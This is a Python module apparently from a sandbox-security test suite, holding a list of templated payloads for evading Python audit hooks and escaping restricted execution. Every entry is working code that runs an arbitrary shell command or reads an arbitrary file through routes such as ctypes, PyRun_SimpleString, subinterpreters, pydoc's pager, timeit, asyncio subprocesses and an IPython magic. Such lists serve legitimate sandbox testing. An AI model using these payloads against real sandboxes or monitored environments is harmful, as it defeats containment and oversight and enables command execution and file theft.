"""Audit-hook evasion and stdlib I/O gadgets."""

PAYLOADS = [
    ("ctypes_system", "audit_hook_evasion", "run_command",
     "import ctypes\nctypes.CDLL(None).system(@C@.encode())"),
    ("spawnv_passfds", "audit_hook_evasion", "run_command",
     "import multiprocessing.util as u, os\n"
     "pid = u.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', @C@.encode()], [])\nos.waitpid(pid, 0)"),
    ("subinterpreter", "audit_hook_evasion", "run_command",
     "try:\n    import _interpreters as i\nexcept ImportError:\n    import _xxsubinterpreters as i\n"
     "i.run_string(i.create(), 'import os; os.system(%r)' % @C@)"),
    ("thread_target", "audit_hook_evasion", "run_command",
     "import threading, os\nt = threading.Thread(target=os.system, args=(@C@,))\nt.start()\nt.join()"),
    ("pythonapi_run_string", "audit_hook_evasion", "run_command",
     "import ctypes\nctypes.pythonapi.PyRun_SimpleString(('import os; os.system(%r)' % @C@).encode())"),
    ("linecache", "stdlib_io_gadgets", "read_file",
     "import linecache\npwned = ''.join(linecache.getlines(@S@))"),
    ("pathlib_read", "stdlib_io_gadgets", "read_file",
     "import pathlib\npwned = pathlib.Path(@S@).read_text()"),
    ("shutil_copy_into_root", "stdlib_io_gadgets", "read_file",
     "import shutil\nshutil.copy(@S@, @ROOT@ + '/copy')\npwned = files.read('copy')"),
    ("timeit_real_builtins", "stdlib_io_gadgets", "run_command",
     "import timeit\ntimeit.timeit('__import__(\"os\").system(%r)' % @C@, number=1)"),
    ("pydoc_pipepager", "stdlib_io_gadgets", "run_command",
     "import pydoc\npydoc.pipepager('x', @C@)"),
    ("io_open", "stdlib_io_gadgets", "read_file",
     "import io\npwned = io.open(@S@).read()"),
    ("codecs_open", "stdlib_io_gadgets", "read_file",
     "import codecs\npwned = codecs.open(@S@).read()"),
    ("os_popen", "stdlib_io_gadgets", "run_command",
     "import os\npwned = os.popen(@C@).read()"),
    ("subprocess_check_output", "stdlib_io_gadgets", "run_command",
     "import subprocess\npwned = subprocess.check_output(@C@, shell=True).decode()"),
    ("asyncio_loop_subprocess", "stdlib_io_gadgets", "run_command",
     "import asyncio\nloop = asyncio.gather().get_loop()\n"
     "t, _ = await loop.subprocess_shell(asyncio.SubprocessProtocol, @C@)\n"
     "while t.get_returncode() is None:\n    await asyncio.sleep(0.02)"),
    ("timeit_magic", "ipython_shell_magics", "run_command",
     "%timeit -n1 -r1 __import__('os').system(@C@)"),
]
